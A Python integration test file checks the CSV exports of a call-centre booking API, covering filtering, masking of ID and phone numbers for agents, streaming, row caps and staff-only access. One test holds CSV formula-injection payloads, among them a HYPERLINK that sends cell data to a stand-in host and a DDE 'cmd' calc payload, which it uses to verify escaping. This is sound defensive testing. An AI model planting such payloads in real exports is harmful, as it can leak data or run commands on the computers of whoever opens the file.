"""CSV exports of calls and bookings, against a real server on real PostgreSQL.

What a reviewer downloads must be what the list shows (same filters), masked the same way for
agents, harmless when opened in a spreadsheet (no cell runs as a formula), streamed and capped.

Set ``TEST_DATABASE_URL`` (CI: ``postgresql+asyncpg://postgres@127.0.0.1:5432/test``) to run.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from app import csv_export
from app.storage import TurnRecord
from tests.integration.test_admin_api import (  # noqa: F401  (pg_database_url: a fixture)
    Api,
    api_servers,
    book,
    insert_call,
    pg_database_url,
)

CEDULA = "00112345678"
PHONE = "+18095550100"


@pytest.fixture
def pg_api(tmp_path: Path, pg_database_url: str) -> Iterator[Api]:  # noqa: F811
    with api_servers(tmp_path / "ex") as make:
        yield make(database_url=pg_database_url, export_max_rows=4)


def rows_of(r: httpx.Response) -> list[dict[str, str]]:
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"].startswith("attachment; filename=")
    text = r.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel needs the BOM to read accents
    return list(csv.DictReader(io.StringIO(text[1:])))


def seed_calls(client: Api) -> None:
    now = datetime.now(UTC).replace(microsecond=0)
    plan = [
        ("CA-1", now - timedelta(days=2), "twilio", PHONE, None),
        ("CA-2", now - timedelta(hours=5), "web", None, "transferred"),
        ("CA-3", now - timedelta(hours=1), "twilio", "+18295552222", "booked"),
    ]
    for sid, started, ingress, caller, outcome in plan:
        turns = [TurnRecord(seq=1, speaker="caller", text=f"Mi cédula es {CEDULA} ({sid})")]
        insert_call(
            client,
            sid,
            started_at=started,
            turns=turns,
            ingress=ingress,
            caller=caller,
            outcome=outcome,
        )


def test_calls_export_has_the_lists_filters_and_masks_for_agents(pg_api: Api) -> None:
    seed_calls(pg_api)
    admin = pg_api.token("admin@example.org", "admin")
    agent = pg_api.token("agente@example.org", "agent")

    full = rows_of(pg_api.get("/api/calls/export.csv", admin))
    assert [r["llamada"] for r in full] == ["CA-3", "CA-2", "CA-1"]  # as the list: newest first
    assert list(full[0]) == list(csv_export_header())
    assert full[2]["numero_que_llamo"] == "'" + PHONE  # a leading "+" is a formula start
    assert full[0]["resultado"] == "booked" and full[0]["duracion_s"] == "42.0"
    assert datetime.fromisoformat(full[0]["inicio"]).utcoffset() == timedelta(hours=-4)

    masked = rows_of(pg_api.get("/api/calls/export.csv", agent))
    assert [r["numero_que_llamo"] for r in masked] == ["'+*******2222", "", "'+*******0100"]
    assert "8095550100" not in pg_api.get("/api/calls/export.csv", agent).text

    for params, expected in [
        ({"ingress": "web"}, ["CA-2"]),
        ({"outcome": "booked"}, ["CA-3"]),
        ({"phone": "809-555-0100"}, ["CA-1"]),
        ({"q": "(CA-2)"}, ["CA-2"]),
        ({"since": (datetime.now(UTC) - timedelta(days=1)).isoformat()}, ["CA-3", "CA-2"]),
    ]:
        listed = [c["call_sid"] for c in pg_api.get("/api/calls", agent, **params).json()["items"]]
        export = pg_api.get("/api/calls/export.csv", agent, **params)
        exported = [r["llamada"] for r in rows_of(export)]
        assert exported == listed == expected, params


def csv_export_header() -> tuple[str, ...]:
    from app.api.calls_routes import EXPORT_HEADER

    return EXPORT_HEADER


def test_bookings_export_masks_cedula_and_phone_for_agents(pg_api: Api) -> None:
    insert_call(pg_api, "CA-b", started_at=datetime.now(UTC), turns=[])
    booked = book(pg_api, "CA-b")
    admin = pg_api.token("admin@example.org", "admin")
    agent = pg_api.token("agente@example.org", "agent")

    [full] = rows_of(pg_api.get("/api/bookings/export.csv", admin))
    assert full["codigo"] == booked.code and full["nombre"] == "Ana Pérez"
    assert (full["cedula"], full["telefono"]) == (CEDULA, "'" + PHONE)
    assert full["llamada"] == "CA-b" and full["estado"] == "confirmed"

    as_agent = pg_api.get("/api/bookings/export.csv", agent)
    [masked] = rows_of(as_agent)
    assert (masked["cedula"], masked["telefono"]) == ("*******5678", "'+*******0100")
    assert CEDULA not in as_agent.text and "8095550100" not in as_agent.text

    day = booked.starts_at.date().isoformat()
    assert len(rows_of(pg_api.get("/api/bookings/export.csv", agent, date=day))) == 1
    assert rows_of(pg_api.get("/api/bookings/export.csv", agent, status="cancelled")) == []
    assert rows_of(pg_api.get("/api/bookings/export.csv", agent, service="pasaporte")) == []


def test_no_cell_can_become_a_formula(pg_api: Api) -> None:
    """Caller ids come from the phone network and names from what callers say: both are the
    caller's to choose. Every cell that a spreadsheet would evaluate starts with an apostrophe."""
    hostile = [
        '=HYPERLINK("http://x.example/?"&A1,"clic")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
    ]
    now = datetime.now(UTC)
    for i, value in enumerate(hostile):
        insert_call(
            pg_api, f"CA-h{i}", started_at=now - timedelta(minutes=i), turns=[], caller=value
        )

    async def booking_named(name: str, cedula: str) -> None:
        svc = pg_api.services.booking_service
        slot = (await svc.available("cedula", limit=1))[0]
        await svc.book(slot.id, "cedula", name, cedula, "=1+1", None)

    for i, value in enumerate(hostile[:2]):
        pg_api.server.run(booking_named(value, f"0011234567{i}"))
    admin = pg_api.token("admin@example.org", "admin")

    calls = rows_of(pg_api.get("/api/calls/export.csv", admin))
    assert [r["numero_que_llamo"] for r in calls] == ["'" + v for v in hostile]
    bookings = rows_of(pg_api.get("/api/bookings/export.csv", admin))
    assert sorted(r["nombre"] for r in bookings) == sorted("'" + v for v in hostile[:2])
    assert {r["telefono"] for r in bookings} == {"'=1+1"}
    for row in calls + bookings:
        for cell in row.values():
            assert not cell.startswith(csv_export.FORMULA_STARTS), (row, cell)


def test_export_is_streamed_in_pages_and_capped(
    pg_api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Pages of 2 rows (the server reads them one query at a time), capped at the server's
    ``export_max_rows`` (4 here): the response says how many matched and that it was cut."""
    monkeypatch.setattr(csv_export, "PAGE_ROWS", 2)
    now = datetime.now(UTC)
    for i in range(5):
        insert_call(pg_api, f"CA-{i}", started_at=now - timedelta(minutes=i), turns=[])
    admin = pg_api.token("admin@example.org", "admin")

    with pg_api.http.stream("GET", "/api/calls/export.csv", headers=admin) as r:
        assert r.status_code == 200
        assert "content-length" not in r.headers  # streamed, not built whole first
        assert r.headers["x-total-count"] == "5" and r.headers["x-export-truncated"] == "true"
        chunks = [c for c in r.iter_raw() if c]
    text = b"".join(chunks).decode("utf-8")[1:]
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["llamada"] for r in rows] == ["CA-0", "CA-1", "CA-2", "CA-3"]

    small = pg_api.get("/api/calls/export.csv", admin, ingress="twilio", since=now.isoformat())
    assert small.headers["x-export-truncated"] == "false"


def test_exports_are_for_staff_only(pg_api: Api) -> None:
    citizen = pg_api.token("ciudadana@example.org", "citizen")
    agent = pg_api.token("agente@example.org", "agent")
    for path in ("/api/calls/export.csv", "/api/bookings/export.csv"):
        assert pg_api.http.get(path).status_code == 401
        assert pg_api.get(path, citizen).status_code == 403
    bad = pg_api.get("/api/bookings/export.csv", agent, status="perdida")
    assert bad.status_code == 422 and bad.json()["detail"] == "Datos no válidos en: status."
    bad = pg_api.get("/api/calls/export.csv", agent, since="ayer")
    assert bad.status_code == 422 and bad.json()["detail"] == "Datos no válidos en: since."
